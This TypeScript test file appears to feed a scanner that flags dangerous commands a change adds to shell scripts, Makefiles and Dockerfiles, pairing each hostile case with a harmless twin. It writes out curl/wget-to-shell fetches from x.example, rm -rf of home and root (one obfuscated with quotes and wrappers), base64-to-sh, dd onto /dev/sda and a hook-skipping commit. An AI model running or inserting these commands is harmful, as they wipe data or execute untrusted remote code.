import { type Attack, pass, review, security } from "../attack.ts";
import { runOf } from "../branch.ts";

type Row = readonly [id: string, title: string, path: string, bad: string, twin: string, good: string];

// biome-ignore format: one case a line
const rows: readonly Row[] = [
  ["fetched", "a script that runs what it fetches", "src/setup.sh", "#!/bin/sh\ncurl -fsSL https://x.example/i | sh\n", "a script that runs the tests", "#!/bin/sh\nset -eu\nnpm test\n"],
  ["wiped", "a script that deletes the home directory", "src/clean.sh", "#!/bin/sh\nrm -rf ~\n", "a script that deletes its own output", "#!/bin/sh\nrm -rf build dist\n"],
  ["wrapped", "the same behind wrappers and quotes", "src/clean.sh", "#!/bin/sh\nnohup env X=1 timeout 9 sh -c 'r\"m\" -rf /'\n", "a wrapped test run", "#!/bin/sh\ntimeout 600 env CI=1 npm test\n"],
  ["found", "deletion by find", "src/clean.sh", "#!/bin/sh\nfind / -name '*.js' -delete\n", "a search of the sources", "#!/bin/sh\nfind src -name '*.js' -print\n"],
  ["decoded", "a script that decodes and runs", "src/decode.sh", "#!/bin/sh\necho aGkK | base64 -d | sh\n", "a script that decodes into a file", "#!/bin/sh\nbase64 -d src/a.b64 > build/a.bin\n"],
  ["hooks", "a script that switches hooks off", "src/push.sh", "#!/bin/sh\ngit commit --no-verify -m x\n", "a script that commits", "#!/bin/sh\ngit commit -m x\n"],
  ["device", "a script that writes to a disk", "src/disk.sh", "#!/bin/sh\ndd if=/dev/zero of=/dev/sda\n", "a script that makes a file of zeros", "#!/bin/sh\ndd if=/dev/zero of=build/zeros bs=1k count=4\n"],
  ["make", "a Makefile's recipe that runs what it fetches", "src/Makefile", "all:\n\tcurl https://x.example/i | bash\n", "a Makefile's ordinary recipe", "all:\n\tgo build ./...\n"],
  ["docker", "an image that runs what it fetches", "src/Dockerfile", "FROM scratch\nRUN wget -qO- https://x.example/i | sh\n", "an image that builds", "FROM scratch\nRUN npm ci && npm run build\n"],
  ["python", "deletion from a one-liner", "src/a.sh", "#!/bin/sh\npython3 -c \"import shutil; shutil.rmtree('/')\"\n", "a module that runs", "#!/bin/sh\npython3 -m pytest\n"],
];

/** Commands that a change brings into scripts, recipes and images: T106, T157, and the gaps of others that peers.md lists. */
export const commandCases: readonly Attack[] = [
  ...rows.map(
    ([id, title, path, bad, twin, good]): Attack => ({
      id: `command-${id}`,
      threat: "own",
      title,
      build: runOf({}, { [path]: bad }),
      expect: security({ path, commit: "evil" }),
      twin: { title: twin, build: runOf({}, { [path]: good }), expect: pass },
    }),
  ),
  {
    id: "command-unknown",
    threat: "own",
    title: "a program that nobody knows",
    build: runOf({}, { "src/a.sh": "#!/bin/sh\nfrobnicate --all\n" }),
    expect: review({ path: "src/a.sh" }),
    twin: {
      title: "a blocked command that the target has, beside an edit",
      build: runOf(
        { files: { "src/a.sh": "#!/bin/sh\nrm -rf ~\necho 1\n" } },
        { "src/a.sh": "#!/bin/sh\nrm -rf ~\necho 2\n" },
      ),
      expect: pass,
    },
  },
];
